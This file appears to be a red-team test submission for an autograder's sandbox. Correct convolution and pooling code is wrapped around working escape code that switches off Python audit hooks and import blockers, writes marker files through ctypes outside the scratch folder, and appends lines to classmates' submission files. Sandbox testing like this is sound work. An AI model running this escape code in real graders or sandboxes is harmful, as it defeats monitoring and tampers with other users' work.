"""Red team: leave files outside the sandbox: a channel to the next student, a mark on the host.

What it tries: writes `rt-escape-*` files in /tmp, /var/tmp, /dev/shm,
/dev/mqueue (POSIX message queue, via `ctypes` `mq_open` after the guards are
off), the grader's HOME, its own submission folder, the classmates' folders,
the `--out` folder (the paths from `/proc/<ancestor>/cmdline`), and through
`/proc/self/fd` descriptors it inherited; with the guards off it retries with
`ctypes` `open`/`openat`.  It also tries to read back `rt-escape-*` files an
earlier submission left, and renames/changes a classmate's file.  Functions
are correct.

Attack worked if: any `rt-escape-*` file outside the scratch folder after the
run, or a classmate's files changed (sound grader: writes only in scratch).
Targets: conv_layers.
"""
# redteam-assignment: conv_layers
# redteam-expect: points<=33
# redteam-setup: serial

import glob
import os
import re

def _disable_python_guards():
    """Switch off the audit hook (swap its code for a no-op) and drop the import blocker."""
    import gc, sys, types
    done = []
    for obj in gc.get_objects():
        if type(obj) is types.FunctionType and obj.__closure__ and (
                obj.__name__ == "hook" or {"refuse_read_of", "refuse_write_to"} & set(obj.__code__.co_freevars)):
            names = obj.__code__.co_freevars
            source = ("def outer():\n" + "".join(f"    {name} = None\n" for name in names)
                      + "    def hook(event, args):\n        return (" + "".join(f"{name}, " for name in names)
                      + ") and None\n    return hook\n")
            namespace = {}
            exec(source, namespace)
            try:
                obj.__code__ = namespace["outer"]().__code__
                done.append("hook")
            except Exception:
                pass
    for finder in list(sys.meta_path):
        if type(finder).__name__ not in ("BuiltinImporter", "FrozenImporter", "PathFinder"):
            try:
                sys.meta_path.remove(finder)
                done.append("meta_path")
            except ValueError:
                pass
    return done

_WROTE = []


def _places():
    places = ["/tmp", "/var/tmp", "/dev/shm", "/run", "/run/user/0", os.path.expanduser("~"), "/root", "/dev/mqueue"]
    pid = os.getpid()
    for _ in range(8):
        try:
            pid = int(re.search(r"PPid:\s*(\d+)", open(f"/proc/{pid}/status").read()).group(1))
            args = open(f"/proc/{pid}/cmdline", "rb").read().decode(errors="replace").split("\0")
        except Exception:
            break
        for arg in args:  # (kept to the runner's class folder, so a broken sandbox litters nothing else)
            if arg.startswith("/") and os.path.isdir(arg) and "rt-redteam" in arg:
                places.append(arg)
                places += glob.glob(os.path.join(arg, "*", "*"))
        if pid <= 1:
            break
    return places


def _write_everywhere(tag):
    here = os.path.realpath(os.getcwd())
    for place in _places():
        if os.path.realpath(place).startswith(here):
            continue  # the scratch folder: writing there is allowed
        path = os.path.join(place, f"rt-escape-{tag}")
        try:
            with open(path, "w") as handle:
                handle.write("written from a sandbox")
            _WROTE.append(path)
        except Exception:
            pass
    for victim in glob.glob("/tmp/rt-redteam-*/*/submissions/*/conv_layers/*.py"):
        try:
            with open(victim, "a") as handle:
                handle.write("\n# rt-escape: changed by a red-team submission\n")
            _WROTE.append(victim)
        except Exception:
            pass


_write_everywhere("python")
try:
    _disable_python_guards()
    import ctypes
    libc = ctypes.CDLL(None, use_errno=True)
    for place in _places():
        if os.path.realpath(place).startswith(os.path.realpath(os.getcwd())):
            continue
        path = os.path.join(place, "rt-escape-ctypes").encode()
        fd = libc.open(path, 0o1101, 0o644)  # O_WRONLY|O_CREAT|O_TRUNC
        if fd >= 0:
            libc.write(fd, b"x", 1)
            libc.close(fd)
            _WROTE.append(path.decode())
    librt = ctypes.CDLL("librt.so.1", use_errno=True)
    if librt.mq_open(b"/rt-escape-mq", 0o101, 0o644, None) >= 0:
        _WROTE.append("/dev/mqueue/rt-escape-mq")
except BaseException:
    pass

import numpy as np  # noqa: E402


# --- honest implementations (copied from examples/conv_layers/correct.py) ---

def zero_pad(x, pad):
    return np.pad(x, ((0, 0), (0, 0), (pad, pad), (pad, pad)), mode="constant")


def conv_output_size(in_size, filter_size, stride=1, pad=0, dilation=1):
    span = dilation * (filter_size - 1) + 1
    room = in_size - span + 2 * pad
    if room < 0 or room % stride != 0:
        raise ValueError(f"filter does not fit: ({in_size} - {span} + 2*{pad}) / {stride} + 1")
    return room // stride + 1


def conv_param_count(in_channels, num_filters, filter_size, bias=True):
    if isinstance(filter_size, tuple):
        height, width = filter_size
    else:
        height = width = filter_size
    return num_filters * (height * width * in_channels + (1 if bias else 0))


def conv_forward_naive(x, w, b, conv_param):
    stride, pad = conv_param["stride"], conv_param["pad"]
    N, C, H, W = x.shape
    F, _, HH, WW = w.shape
    H_out = 1 + (H + 2 * pad - HH) // stride
    W_out = 1 + (W + 2 * pad - WW) // stride
    x_pad = zero_pad(x, pad)
    out = np.zeros((N, F, H_out, W_out))
    for i in range(H_out):
        for j in range(W_out):
            window = x_pad[:, :, i * stride : i * stride + HH, j * stride : j * stride + WW]
            out[:, :, i, j] = np.tensordot(window, w, axes=([1, 2, 3], [1, 2, 3])) + b
    cache = (x, w, b, conv_param)
    return out, cache


def conv_backward_naive(dout, cache):
    x, w, b, conv_param = cache
    stride, pad = conv_param["stride"], conv_param["pad"]
    HH, WW = w.shape[2:]
    H_out, W_out = dout.shape[2:]
    x_pad = zero_pad(x, pad)
    dx_pad = np.zeros_like(x_pad)
    dw = np.zeros_like(w)
    db = dout.sum(axis=(0, 2, 3))
    for i in range(H_out):
        for j in range(W_out):
            rows = slice(i * stride, i * stride + HH)
            cols = slice(j * stride, j * stride + WW)
            dw += np.tensordot(dout[:, :, i, j], x_pad[:, :, rows, cols], axes=([0], [0]))
            dx_pad[:, :, rows, cols] += np.tensordot(dout[:, :, i, j], w, axes=([1], [0]))
    dx = dx_pad[:, :, pad : pad + x.shape[2], pad : pad + x.shape[3]]
    return dx, dw, db


def max_pool_forward_naive(x, pool_param):
    ph, pw, stride = pool_param["pool_height"], pool_param["pool_width"], pool_param["stride"]
    N, C, H, W = x.shape
    H_out = 1 + (H - ph) // stride
    W_out = 1 + (W - pw) // stride
    out = np.zeros((N, C, H_out, W_out))
    for i in range(H_out):
        for j in range(W_out):
            out[:, :, i, j] = x[:, :, i * stride : i * stride + ph, j * stride : j * stride + pw].max(axis=(2, 3))
    cache = (x, pool_param)
    return out, cache


def max_pool_backward_naive(dout, cache):
    x, pool_param = cache
    ph, pw, stride = pool_param["pool_height"], pool_param["pool_width"], pool_param["stride"]
    dx = np.zeros_like(x)
    for i in range(dout.shape[2]):
        for j in range(dout.shape[3]):
            window = x[:, :, i * stride : i * stride + ph, j * stride : j * stride + pw]
            mask = window == window.max(axis=(2, 3), keepdims=True)
            dx[:, :, i * stride : i * stride + ph, j * stride : j * stride + pw] += mask * dout[:, :, i, j][:, :, None, None]
    return dx


if _WROTE:
    raise RuntimeError("RT-" + "BREACH wrote " + " ".join(_WROTE)[:170])
